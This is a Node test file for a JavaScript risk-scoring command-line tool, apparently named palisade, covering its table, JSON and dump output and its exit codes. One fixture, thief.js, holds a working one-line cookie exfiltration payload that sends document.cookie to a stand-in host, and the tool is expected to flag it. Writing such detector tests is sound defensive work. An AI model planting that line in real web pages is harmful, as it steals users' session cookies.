import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { openCommandLine } from '../../test/support/palisade-command.ts';

const commandLine = openCommandLine();
after(() => commandLine.close());
const palisade = (...args: string[]) => commandLine.run(['script', 'score', ...args]);

describe('palisade script score', () => {
  const folder = mkdtempSync(join(tmpdir(), 'palisade-script-command-'));
  after(() => rmSync(folder, { recursive: true }));
  const write = (name: string, text: string): string => {
    const file = join(folder, name);
    writeFileSync(file, text);
    return file;
  };
  const thief = write('thief.js', `new Image().src = '//x.test/?' + document.cookie;`);
  const clean = write('clean.js', 'document.title = "hello";');
  const page = write('page.html', '<html></html>');
  const large = write('large.js', 'a();'.repeat(600_000));

  it('prints six scores for each file and the reasons, and exits with 1', async () => {
    const { code, stdout } = await palisade(thief, clean);
    assert.match(
      stdout,
      /^FILE +INTEGRITY +MAGECART +MALWARE +CRYPTOMINING +OBFUSCATION +DATAFLOW/,
    );
    assert.match(stdout, /thief\.js +\d +99 +\d+ +99 +99 +\d+ +malicious\n/);
    assert.match(stdout, /clean\.js +99 +99 +99 +99 +99 +99\n/);
    assert.match(stdout, /1:1 +\d+ {2}malware\/all-cookies-sent-unanswered +Sends all cookies/);
    assert.equal(code, 1);
  });

  it('prints JSON lines with the names of the API', async () => {
    const { code, stdout } = await palisade('--json', clean);
    assert.deepEqual(JSON.parse(stdout), {
      file: clean,
      js_integrity_score: 99,
      magecart_score: 99,
      malware_score: 99,
      cryptomining_score: 99,
      obfuscation_score: 99,
      dataflow_score: 99,
      malicious: false,
      reasons: [],
    });
    assert.equal(code, 0);
  });

  it('prints the analysis of each file, and where flows start and end', async () => {
    const { code, stdout } = await palisade('--dump', thief, page, large);
    assert.match(stdout, /thief\.js\nshape\n {2}nodes 12, /);
    assert.match(
      stdout,
      /\n {2}1:1 image to foreign host, response ignored <- cookie, wholeCookie\n/,
    );
    assert.match(stdout, /\n {4}1:34 cookie, wholeCookie: document\.cookie\n/);
    assert.match(stdout, /\n {2}malware\/all-cookies-sent-unanswered, \d+ points: 1:1\n/);
    assert.match(stdout, /page\.html\nnot-javascript: Unexpected token \(1:0\)\n/);
    assert.match(stdout, /large\.js\ntoo-large: 2,400,000 bytes/);
    assert.equal(code, 1);
    const { stderr } = await palisade('--dump', '--json', thief);
    assert.match(stderr, /--dump.*cannot be used with.*--json/);
  });

  it('prints why a file gets no scores, and exits with 2', async () => {
    const { code, stdout } = await palisade(page, large);
    assert.match(stdout, /page\.html +- +- +- +- +- +-\n/);
    assert.match(stdout, /page\.html: not-javascript: Unexpected token \(1:0\)/);
    assert.match(stdout, /large\.js: too-large: 2,400,000 bytes/);
    assert.equal(code, 2);
    const printed = JSON.parse((await palisade('--json', large)).stdout);
    assert.equal(printed.js_integrity_score, null);
    assert.equal(printed.not_scored, 'too-large');
  });

  it('names files that cannot be read', async () => {
    const { code, stderr } = await palisade(clean, join(folder, 'missing.js'));
    assert.match(stderr, /missing\.js: /);
    assert.equal(code, 2);
  });
});
